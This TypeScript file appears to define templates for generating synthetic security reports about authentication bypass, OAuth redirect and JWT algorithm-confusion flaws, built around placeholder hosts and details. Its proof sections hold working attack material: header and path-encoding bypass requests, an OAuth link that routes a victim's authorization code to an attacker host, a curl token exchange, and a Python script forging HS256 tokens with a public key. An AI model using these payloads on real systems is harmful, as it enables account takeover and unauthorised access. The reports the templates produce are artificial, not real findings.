import type { VulnerabilityClass } from './vulnerability-class.ts'

const authenticationBypass: VulnerabilityClass = {
  key: 'authentication-bypass',
  type: 'Authentication bypass',
  cwe: 287,
  weight: 4,
  surfaces: ['web', 'api', 'infrastructure', 'device'],
  shape: 'takeover',
  severities: [
    ['Critical', 6],
    ['High', 4],
  ],
  places: [
    { path: '«api»/internal/users', parameter: 'X-Original-URL', detail: 'a header of the gateway' },
    { path: '/admin;/console', parameter: 'path', detail: 'a semicolon in the path' },
    {
      method: 'POST',
      path: '«api»/login',
      parameter: 'password',
      detail: 'an empty password with `authType: "ldap"`',
    },
    { path: '«collection»/%2e%2e/admin/settings', parameter: 'path', detail: 'encoded dots' },
    { method: 'POST', path: '/saml/acs', parameter: 'SAMLResponse', detail: 'a comment inside the name id' },
  ],
  titles: [
    'Authentication bypass on «host» with «detail»',
    'Unauthenticated access to «path» («detail»)',
    'Login as any «staffRole» without a password',
    'Gateway and backend read the path differently → admin API without a session',
  ],
  summaries: [
    'With «detail» the check at the door is skipped and `«path»` answers without a session.',
    'The proxy that checks sessions and the service behind it do not agree about the address. Using «detail» I reach `«path»` without a cookie.',
  ],
  steps: [
    [
      'Call `«path»` in the normal way, without a cookie: 401.',
      'Repeat it with «detail» as in the request below: 200.',
      'I read one page with my own account in it and stopped.',
    ],
    [
      'Take the request below as it is; there is no session in it.',
      'Compare the length of the answer with that of the signed-in admin page.',
    ],
  ],
  proofs: [
    [
      {
        say: 'No cookie, no token:',
        lang: 'http',
        code: `«method» «path» HTTP/1.1
Host: «host»
X-Original-URL: «api»/public/health
X-Forwarded-For: 127.0.0.1

HTTP/1.1 200 OK
Content-Type: application/json

{"users":[{"id":1,"email":"root@«domain»","role":"super"},{"id":2,"email":"ops@«domain»","role":"admin"}],"total":«many2»}`,
      },
    ],
    [
      {
        say: 'Three lines side by side:',
        lang: 'text',
        code: `GET /admin/console               401   «server»
GET /admin;/console              200   application behind it
GET /admin%2fconsole             400   «server»`,
      },
    ],
  ],
  impacts: [
    'No account is needed at all. Everything that a «staffRole» sees and does is open: «secrets».',
    'Complete loss of access control for the internal API of «company», from the internet.',
  ],
  fixes: [
    'Decide on the address once, after it was brought into one form, and check rights in the service itself as well.',
  ],
  notes: [
    'Confirmed from a mobile network without any cookie. Incident opened, edge rule deployed 11:50, proper fix follows.',
    'Only works through the old load balancer, which still has the DNS name `lb2`. Being removed.',
  ],
}

const oauthRedirect: VulnerabilityClass = {
  key: 'oauth-redirect',
  type: 'OAuth and single sign-on',
  cwe: 601,
  weight: 4,
  surfaces: ['web', 'mobile'],
  shape: 'click',
  severities: [
    ['High', 6],
    ['Medium', 3],
  ],
  places: [
    { path: '/oauth/authorize', parameter: 'redirect_uri', detail: 'a look-alike path' },
    { path: '/oauth/authorize', parameter: 'redirect_uri', detail: 'a subdomain of the client' },
    { path: '/connect/callback', parameter: 'state', detail: 'a missing check of `state`' },
    { path: '/sso/start', parameter: 'RelayState', detail: 'an absolute address' },
  ],
  titles: [
    'OAuth: `«parameter»` accepts «detail», authorization code leaks',
    'Account takeover through «path»: `«parameter»` is not compared exactly',
    'Code of the victim is sent to my host (`«parameter»`, «detail»)',
    'Open redirect after OAuth with encoded slash leaks the code',
  ],
  summaries: [
    'The authorization server compares `«parameter»` by prefix only. With «detail» the code of the victim is delivered to a page of mine.',
    'Because of «detail» the login of a victim can be completed at my host. One click on a link on the real domain is enough, an existing session needs no consent again.',
  ],
  steps: [
    [
      'Register a client of your own, or take the public one of the mobile app.',
      'Send the victim to the address below.',
      'The victim is signed in already, so there is no page in between.',
      'The code arrives in the access log of «attacker».',
      'Exchange it within 60 seconds and call `«api»/me`: it is the victim.',
    ],
  ],
  proofs: [
    [
      {
        say: 'The link:',
        lang: 'text',
        code: `https://«host»«path»?client_id=mobile&response_type=code&scope=openid%20profile
  &«parameter»=https%3A%2F%2Fapp.«domain»%2Fcallback%2F..%2F..%2Fr%3Fto%3Dhttps%3A%2F%2F«attacker»`,
      },
      {
        say: 'What arrives:',
        lang: 'text',
        code: '«ip» "GET /?code=SplxlOBeZQQYbYS6WxSbIA&state=x HTTP/2" 200 "https://«host»/"',
      },
    ],
    [
      {
        say: 'Exchange of the code (PKCE is not asked for):',
        lang: 'bash',
        code: `curl -s https://«host»/oauth/token \\
  -d grant_type=authorization_code -d client_id=mobile \\
  -d code=SplxlOBeZQQYbYS6WxSbIA -d redirect_uri=https://app.«domain»/callback
{"access_token":"«jwt»","token_type":"Bearer","expires_in":3600}`,
      },
    ],
  ],
  impacts: [
    'Takeover of the account of anybody who clicks, without a password and past the second factor.',
    'The token has the full scope of the mobile client: it reads «secrets».',
  ],
  fixes: [
    'Compare `redirect_uri` character by character with the registered ones and ask for PKCE from every public client.',
  ],
  notes: [
    'Path normalisation happens after the comparison. Identity team confirms, fix is small.',
    'Code is bound to the client but not to the redirect address. Exchange worked for me.',
  ],
}

const jwtConfusion: VulnerabilityClass = {
  key: 'jwt-confusion',
  type: 'Authentication bypass',
  cwe: 347,
  weight: 3,
  surfaces: ['api', 'web', 'mobile'],
  shape: 'takeover',
  severities: [
    ['Critical', 6],
    ['High', 3],
  ],
  places: [
    { path: '«api»/me', parameter: 'alg', detail: 'HS256 signed with the public key' },
    { path: '«api»/me', parameter: 'alg', detail: '`none`' },
    { path: '«api»/me', parameter: 'kid', detail: 'a path to an empty file' },
    { path: '«api»/me', parameter: 'jku', detail: 'a key set on a host of mine' },
  ],
  titles: [
    'JWT: «host» accepts «detail», any user can be impersonated',
    'Algorithm confusion in the session token of «host»',
    'Forged JWT through `«parameter»` («detail»)',
    'Signature of the access token is not verified properly',
  ],
  summaries: [
    'The API verifies tokens with whatever the token itself asks for. With «detail» I sign tokens for any user id.',
    'The header member `«parameter»` is trusted. Using «detail», a token that I made myself is accepted.',
  ],
  steps: [
    [
      'Fetch the public key from `/.well-known/jwks.json`.',
      'Make a token with the script below; the subject is my second account «victimId».',
      'Call `«path»` with it: the answer is the profile of the second account.',
    ],
  ],
  proofs: [
    [
      {
        say: 'The script:',
        lang: 'python',
        code: `import base64, hashlib, hmac, json, pathlib, time

def part(value):
    raw = value if isinstance(value, bytes) else json.dumps(value).encode()
    return base64.urlsafe_b64encode(raw).rstrip(b"=")

key = pathlib.Path("public.pem").read_bytes()          # from jwks.json
head = part({"alg": "HS256", "typ": "JWT"})
body = part({"sub": "«victimId»", "exp": int(time.time()) + 600})
signature = hmac.new(key, head + b"." + body, hashlib.sha256).digest()
print((head + b"." + body + b"." + part(signature)).decode())`,
      },
      {
        say: 'And its use:',
        lang: 'http',
        code: `GET «path» HTTP/2
Host: «host»
Authorization: Bearer «jwt»

HTTP/2 200
Content-Type: application/json

{"id":«victimId»,"email":"«victim»","role":"«customer»"}`,
      },
    ],
    [
      {
        say: 'Header and payload of a token that was accepted:',
        lang: 'json',
        code: `{ "alg": "none", "typ": "JWT" }
{ "sub": "«victimId»", "iss": "https://id.«domain»", "exp": 1795000000 }`,
      },
    ],
  ],
  impacts: [
    'Anybody can become anybody, «staffRole»s included. Only the number of the account must be known, and those are counted up.',
    'All APIs that share this verifier are concerned.',
  ],
  fixes: ['Fix the algorithm on the side of the verifier and choose the key by issuer, not by the token.'],
  notes: [
    'Own library, forked in 2019 before the fix upstream. Token forged on staging within five minutes. Critical.',
  ],
}

export const authenticationClasses: readonly VulnerabilityClass[] = [
  authenticationBypass,
  oauthRedirect,
  jwtConfusion,
]
